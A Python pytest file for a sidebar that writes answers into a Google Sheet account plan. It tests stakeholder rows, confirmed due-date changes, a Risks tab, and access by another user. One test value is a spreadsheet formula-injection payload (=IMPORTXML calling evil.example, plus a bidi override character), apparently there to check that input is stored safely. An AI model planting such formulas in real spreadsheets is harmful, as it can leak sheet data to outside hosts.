"""Filling a plan in from the sidebar, on the demo: each answer stands in the Sheet before the next question."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest

from tests.running import PlanSheet, eventually, running_demo
from tests.sidebar import Sidebar

REVIEW = "SOC 2 and penetration test review"
FORMULA = '=IMPORTXML("https://evil.example") <b>🚀</b> \u202eabc'


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    with running_demo(tmp_path_factory.mktemp("demo") / "data") as ready:
        yield ready


@pytest.fixture
def sidebar(demo: dict[str, Any]) -> Sidebar:
    return Sidebar(demo)


@pytest.fixture
def sheet(demo: dict[str, Any]) -> PlanSheet:
    return PlanSheet(demo["workspace"], demo["spreadsheet_id"])


def test_an_answer_stands_in_the_sheet_within_a_second_and_the_next_question_follows(
    sidebar: Sidebar, sheet: PlanSheet
) -> None:
    sidebar.click("questions")
    assert "Who decides on the budget" in sidebar.text
    begun = time.monotonic()
    sidebar.click(
        "questions/answer",
        {"name": FORMULA, "email": "carla@acme.example"},
        question="role:economic_buyer",
        done="0",
    )
    assert time.monotonic() - begun < 1

    row = sheet.rows("Stakeholders", "Name")[FORMULA.strip()]
    assert (row["Email"], row["Role"], row["Decision power"]) == (
        "carla@acme.example", "Economic buyer", "Decider",
    )  # fmt: skip
    assert "Written into the plan" in sidebar.text
    assert "Who decides on the budget" not in sidebar.text
    sidebar.click("questions")
    assert "Who decides on the budget" not in sidebar.text
    eventually(lambda: "economic buyer" not in sheet.outlook())


def dues(sheet: PlanSheet) -> dict[str, str]:
    return {name: row["Due"] for name, row in sheet.rows().items()}


def test_a_service_level_shows_the_new_dates_and_writes_them_only_when_told_to(
    sidebar: Sidebar, sheet: PlanSheet
) -> None:
    before = dues(sheet)
    sidebar.click("questions/answer", {"days": "x"}, question="takes:security-review", done="1")
    assert "whole number" in sidebar.text
    sidebar.click("questions/answer", {"days": "60"}, question="takes:security-review", done="1")
    assert "Nothing is written until you say so" in sidebar.text
    assert dues(sheet) == before

    use = sidebar.button("Use these dates")
    row = next(name for name in before if name != REVIEW and f"'{name}'" in sidebar.text)
    sheet.set(row, "Due", "2027-03-03")
    before = dues(sheet)
    sidebar.click(use[0], {}, **use[1])
    assert "Nothing was written" in sidebar.text
    assert dues(sheet) == before

    shown = sidebar.text
    sidebar.press("Use these dates")
    after = dues(sheet)
    assert "The new dates stand in the plan" in sidebar.text
    moved = {name for name, due in after.items() if due != before[name]}
    assert moved
    assert all(name in shown for name in moved)
    sidebar.click("questions")
    assert "penetration test review take" not in sidebar.text


def test_open_questions_stand_in_the_risks_tab_once(sidebar: Sidebar, sheet: PlanSheet) -> None:
    for _ in range(2):
        sidebar.click("questions/answer", put="all", done="0")
    rows = [row["Kind"] for row in sheet.rows("Risks", "Description").values()]
    texts = [line for line in sheet.grid("Risks") if line[0] == "Open question"]
    assert len(texts) == len({line[2] for line in texts})
    assert rows.count("Open question") > 2


@pytest.mark.parametrize("path", ["questions", "questions/answer"])
def test_nobody_answers_for_somebody_elses_plan(demo: dict[str, Any], path: str) -> None:
    other = Sidebar(demo, person="eve@northwind.example", host="drive")
    other.click(path, {"name": "x"}, question="role:economic_buyer", put="all")
    assert "plan of your own" in other.text


def test_what_could_not_be_written_is_asked_again_with_what_was_typed(
    sidebar: Sidebar, sheet: PlanSheet
) -> None:
    sheet.book.del_worksheet(sheet.book.worksheet("Risks"))
    sidebar.click("questions/answer", {"name": "IT"}, question="role:finance", done="0")
    assert "answered already" in sidebar.text
    sidebar.click("questions/answer", put="all", done="0")
    assert "no table of risks" in sidebar.text
    assert sidebar.card["sections"][0]["header"].startswith("1 of ")  # nothing counts as answered
